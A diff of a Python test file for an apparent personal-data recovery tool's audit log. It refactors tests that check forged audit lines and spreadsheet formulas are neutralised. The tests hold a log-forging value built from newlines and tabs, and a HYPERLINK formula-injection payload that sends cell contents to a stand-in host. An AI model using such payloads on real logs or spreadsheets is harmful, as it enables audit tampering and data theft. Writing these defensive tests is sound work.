@@ -423,15 +423,19 @@ def test_the_database_and_the_command_apply_the_same_reason_rule(job):
     assert len(in_sql) > controls + 60  # the blank ones: white space, format characters, fillers
 
 
-def test_no_field_can_forge_a_line_of_the_audit(job):
-    forged = "INC-7\n2026-01-01T00:00:00+00:00\tlookup\t1\tsomeone_else\t\ttoken_to_value\tip\t\tfound\tforged"
-    # A row as an earlier version, or a hostile admin, could have written it.
+def audit_row(job: Job, reason: str) -> None:
+    """An audit row with this reason, as an earlier version, or a hostile admin, could have written it."""
     with psycopg.connect(job.dsn, autocommit=True) as conn:
         conn.execute(
             "INSERT INTO pii.recovery_audit (login_user, direction, kind, token, found, outcome, reason)"
             " VALUES (%s, 'token_to_value', 'ip', 'abc', true, 'found', %s)",
-            (OFFICER, forged),
+            (OFFICER, reason),
         )
+
+
+def test_no_field_can_forge_a_line_of_the_audit(job):
+    forged = "INC-7\n2026-01-01T00:00:00+00:00\tlookup\t1\tsomeone_else\t\ttoken_to_value\tip\t\tfound\tforged"
+    audit_row(job, forged)
     text = job.run("audit").stdout.splitlines()
     assert len(text) == 2 and "someone_else" in text[1] and "\\n" in text[1]
     assert text[1].count("\t") == len(audit.COLUMNS) - 1
@@ -498,12 +502,7 @@ def test_one_login_cannot_fill_the_queue(job):
 
 def test_a_spreadsheet_runs_no_formula_from_the_csv_audit(job):
     formula = '=HYPERLINK("http://127.0.0.1:9/?"&B1,"ticket INC-4711 approved by DPO")'
-    with psycopg.connect(job.dsn, autocommit=True) as conn:
-        conn.execute(
-            "INSERT INTO pii.recovery_audit (login_user, direction, kind, token, found, outcome, reason)"
-            " VALUES (%s, 'token_to_value', 'ip', 'abc', true, 'found', %s)",
-            (OFFICER, formula),
-        )
+    audit_row(job, formula)
     (row,) = list(csv.reader(io.StringIO(job.run("audit", "--format", "csv").stdout)))[1:]
     assert row[-1] == "'" + formula
 
